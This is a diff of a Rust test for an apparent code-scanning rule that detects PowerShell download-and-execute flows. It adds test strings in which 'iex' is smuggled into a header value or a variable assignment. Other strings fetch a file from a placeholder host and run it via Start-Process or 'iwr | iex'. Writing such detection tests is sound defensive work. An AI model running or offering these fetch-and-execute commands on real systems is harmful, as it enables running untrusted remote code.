@@ -774,10 +774,13 @@ fn what_fetches_for_the_script_or_unpacks_starts_nothing() {
         );
         rules(Language::JavaScript, &code).contains(&"flow-download-run")
     };
-    let fetch = "[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12; Invoke-WebRequest -URI https://h.invalid/a.zip -UseBasicParsing -OutFile /opt/t/tool.zip -Headers @{'a'='b'}";
+    let fetch = "[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12; Invoke-WebRequest -URI https://h.invalid/a.zip -UseBasicParsing -OutFile /opt/t/tool.zip";
     assert!(!told(&format!("`powershell \"{fetch}\"`")));
     assert!(!told("'pkgutil --expand-full /opt/t/tool.zip /opt/t/expanded'"));
     assert!(told(&format!("`powershell \"{fetch}; Start-Process /opt/t/tool.zip\"`")));
+    // Commands that stand where only a value is meant to.
+    assert!(told(&format!("`powershell \"{fetch} -Headers @{{a=iex x}}; /opt/t/tool.zip\"`")));
+    assert!(told(&format!("`powershell \"$ProgressPreference = iex /opt/t/tool.zip; {fetch}\"`")));
     assert!(told("`powershell \"iwr https://h.invalid/a -OutFile /opt/t/tool.zip | iex\"`"));
     assert!(told("'/opt/t/tool.zip'"));
 }
